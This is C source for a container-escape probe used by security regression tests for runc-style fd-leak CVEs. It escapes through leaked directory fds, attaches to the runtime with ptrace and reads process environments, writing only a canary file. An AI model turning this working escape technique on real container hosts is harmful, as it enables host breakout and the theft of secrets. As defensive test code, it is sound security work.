/* static */
/* sec-fd-escape: the attack probe of tests/security/cve-2024-21626.bats and
 * cve-2016-9962.bats.  Runs inside a container and tries to reach the host
 * through a directory fd of vessel's: walk up ("..") from it past the
 * container's root and create HOSTPATH (a canary under the test's tmp dir,
 * an absolute host path) there.
 *
 *   sec-fd-escape walk HOSTPATH [DIR]
 *       from DIR (else the cwd vessel gave us), walk up and create HOSTPATH
 *   sec-fd-escape scan HOSTPATH SECONDS [MARKER]
 *       watch /proc for a process of vessel's ("vessel:*"); try each of its
 *       /proc/PID/fd/N that is a directory as above, for 5 s; with MARKER
 *       (a path in the container), until MARKER exists (the test made it:
 *       the process is held where it wants it), then once more, and in
 *       any case do not exit before MARKER exists: the probe is the
 *       container's init, and its exit would kill the process it watches
 *       (SECONDS bounds it all)
 *   sec-fd-escape peek PID HOSTPATH
 *       against one process: PTRACE_ATTACH it, read /proc/PID/environ, then
 *       try its directory fds as above
 *
 * Prints one line per finding: "escaped via X", "ptrace attached PID",
 * "environ read PID", "seen PID COMM", "denied X ERRNO", "contained X".
 * Exit status: 0 when the host was reached (or, for peek, anything
 * succeeded), 1 when every try failed, 2 for bad usage or a scan timeout. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* From a directory outside our root, ".." keeps climbing to the host's
 * root (where it stops); from one inside, it stops at our root.  Then the
 * canary's path, taken as relative, names the host file or nothing. */
static bool quiet; /* scan: report only the last result of each process */

static int walk_and_write(const char *from, const char *hostpath)
{
	int back = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int ok = 0;
	if (chdir(from) < 0) {
		if (!quiet)
			printf("denied %s %s\n", from, strerror(errno));
		goto out;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	int fd = open(hostpath + 1, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd >= 0) {
		(void)!write(fd, "escaped\n", 8);
		close(fd);
		printf("escaped via %s\n", from);
		ok = 1;
	} else if (!quiet) {
		printf("contained %s\n", from);
	}
out:
	if (back >= 0) {
		(void)!fchdir(back);
		close(back);
	}
	return ok;
}

/* 1: escaped, 0: tried, nothing; -1: denied.  The outcome's line goes
 * to why (printed by the caller). */
static int try_fds(int pid, const char *hostpath, char *why, size_t len)
{
	char dirpath[64];
	snprintf(dirpath, sizeof(dirpath), "/proc/%d/fd", pid);
	DIR *d = opendir(dirpath);
	if (!d) {
		snprintf(why, len, "denied %s %s", dirpath, strerror(errno));
		return -1;
	}
	int r = 0, denied = 0, err = 0;
	struct dirent *e;
	/* readdir ends with errno set when the listing itself is refused */
	while (r == 0 && (errno = 0, e = readdir(d))) {
		char p[PATH_MAX];
		struct stat st;
		if (e->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%s", dirpath, e->d_name);
		if (stat(p, &st) < 0) {
			denied = 1;
			err = errno;
		} else if (S_ISDIR(st.st_mode) && walk_and_write(p, hostpath)) {
			r = 1;
		}
	}
	if (!e && errno) {
		denied = 1;
		err = errno;
	}
	closedir(d);
	if (r == 0 && denied)
		snprintf(why, len, "denied %s %s", dirpath, strerror(err));
	else if (r == 0)
		snprintf(why, len, "contained %s", dirpath);
	return r == 0 && denied ? -1 : r;
}

static int report_fds(int pid, const char *hostpath)
{
	char why[256] = "";
	int r = try_fds(pid, hostpath, why, sizeof(why));
	if (why[0])
		printf("%s\n", why);
	return r;
}

static int read_comm(int pid, char *buf, size_t len)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/comm", pid);
	FILE *f = fopen(p, "re");
	if (!f)
		return -1;
	int r = fgets(buf, (int)len, f) ? 0 : -1;
	fclose(f);
	buf[strcspn(buf, "\n")] = '\0';
	return r;
}

static const char *marker; /* scan's MARKER, NULL = none */

static bool marked(void)
{
	return marker && access(marker, F_OK) == 0;
}

/* Keep trying while the process runs vessel's code (for 5 s, or until the
 * test's marker, at most until `end`): what it holds, its capabilities and
 * whether it is dumpable change from step to step.  The result printed is
 * the last try's. */
static int watch(int pid, const char *hostpath, time_t end)
{
	char why[256] = "", comm[64];
	if (!marker && end > time(NULL) + 5)
		end = time(NULL) + 5;
	quiet = true;
	bool last = false;
	while (!last && time(NULL) < end && read_comm(pid, comm, sizeof(comm)) == 0 &&
	       strncmp(comm, "vessel:", 7) == 0) {
		last = marked(); /* the try after the marker is the last */
		char now[256] = "";
		int r = try_fds(pid, hostpath, now, sizeof(now));
		if (r == 1)
			return 0;
		if (now[0])
			memcpy(why, now, sizeof(why));
		usleep(1000);
	}
	printf("%s\n", why[0] ? why : "gone before it could be looked at");
	return 1;
}

/* scan's result, once the test says it may end the container. */
static int after_marker(int r, time_t end)
{
	while (marker && !marked() && time(NULL) < end)
		usleep(10000);
	return r;
}

static int scan(const char *hostpath, int seconds)
{
	time_t end = time(NULL) + seconds;
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			char comm[64];
			if (pid <= 0 || pid == getpid() || read_comm(pid, comm, sizeof(comm)) < 0 ||
			    strncmp(comm, "vessel:", 7) != 0)
				continue;
			printf("seen %d %s\n", pid, comm);
			closedir(d);
			return after_marker(watch(pid, hostpath, end), end);
		}
		if (d)
			closedir(d);
		usleep(2000);
	}
	printf("timeout: no process of vessel's seen\n");
	return 2;
}

static int peek(int pid, const char *hostpath)
{
	int got = 0;
	char p[64], buf[256];
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		printf("ptrace attached %d\n", pid);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
		got = 1;
	} else {
		printf("denied ptrace %d %s\n", pid, strerror(errno));
	}
	snprintf(p, sizeof(p), "/proc/%d/environ", pid);
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf)) : -1;
	if (n > 0) {
		printf("environ read %d\n", pid);
		got = 1;
	} else {
		printf("denied %s %s\n", p, n == 0 ? "empty" : strerror(errno));
	}
	if (fd >= 0)
		close(fd);
	if (report_fds(pid, hostpath) == 1)
		got = 1;
	return got ? 0 : 1;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && strcmp(argv[1], "walk") == 0 && argv[2][0] == '/')
		return walk_and_write(argc > 3 ? argv[3] : ".", argv[2]) ? 0 : 1;
	if ((argc == 4 || argc == 5) && strcmp(argv[1], "scan") == 0 && argv[2][0] == '/') {
		marker = argc == 5 ? argv[4] : NULL;
		return scan(argv[2], atoi(argv[3]));
	}
	if (argc == 4 && strcmp(argv[1], "peek") == 0 && argv[3][0] == '/')
		return peek(atoi(argv[2]), argv[3]);
	fprintf(stderr, "usage: sec-fd-escape walk HOSTPATH [DIR] | scan HOSTPATH SECONDS "
			"[MARKER] | peek PID HOSTPATH\n");
	return 2;
}
